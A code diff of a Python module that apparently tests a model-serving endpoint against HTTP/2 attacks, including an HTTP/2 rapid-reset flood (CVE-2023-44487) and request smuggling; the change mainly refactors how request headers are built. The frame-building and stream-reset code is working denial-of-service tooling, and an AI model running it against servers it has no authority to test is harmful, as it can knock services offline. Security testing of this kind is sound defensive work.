@@ -186,10 +186,10 @@ def smuggled(target: Target) -> dict[str, int | None]:
 
 
 def rapid_resets(target: Target, streams: int) -> str:
-    """Requests over HTTP/2 that are called off at once (CVE-2023-44487); how the connection ended."""
+    """Requests over HTTP/2 that are reset at once (CVE-2023-44487); how the connection ended."""
     with target.tls("h2") as connection:
         connection.sendall(PREFACE + _frame(SETTINGS, 0, 0, b""))
-        headers = _request_headers(target.token)
+        headers = _request_headers("/predictions/echo", target.token)
         try:
             for i in range(streams):
                 stream = 2 * i + 1
@@ -220,10 +220,12 @@ def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
     return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
 
 
-def _request_headers(token: str) -> bytes:
+def _request_headers(path: str, token: str = "", **more: str) -> bytes:
     """A POST's headers without compression: RFC 7541, 6.2.2."""
-    fields = {":method": "POST", ":scheme": "https", ":path": "/predictions/echo", ":authority": "localhost"}
-    fields["authorization"] = f"Bearer {token}"
+    fields = {":method": "POST", ":scheme": "https", ":path": path, ":authority": "localhost"}
+    if token:
+        fields["authorization"] = f"Bearer {token}"
+    fields |= {name.replace("_", "-"): value for name, value in more.items()}
     return b"".join(b"\x00" + _text(name) + _text(value) for name, value in fields.items())
 
 
@@ -246,7 +248,7 @@ class Http2:
     def __init__(self, target: Target, unread_bytes: int | None = None) -> None:
         """`unread_bytes` is how much of each answer may come before it is read; it is never read."""
         self._socket = target.tls("h2", timeout=30)
-        self._target, self._unread = target, unread_bytes
+        self._target = target
         self._changed = threading.Condition()
         self._window, self._windows, self._first = 65_535, {}, 65_535
         self.answered: set[int] = set()
@@ -260,13 +262,9 @@ class Http2:
     def request(self, path: str, *, token: bool = True, **headers: str) -> int:
         """Send a request's headers; its body follows with `send`. The stream."""
         stream = 2 * len(self._windows) + 1
-        fields = {":method": "POST", ":scheme": "https", ":path": path, ":authority": "localhost"}
-        if token:
-            fields["authorization"] = f"Bearer {self._target.token}"
-        fields |= {name.replace("_", "-"): value for name, value in headers.items()}
         with self._changed:
             self._windows[stream] = self._first
-        block = b"".join(b"\x00" + _text(name) + _text(value) for name, value in fields.items())
+        block = _request_headers(path, self._target.token if token else "", **headers)
         self._send(_frame(HEADERS, 0x4, stream, block))
         return stream
 
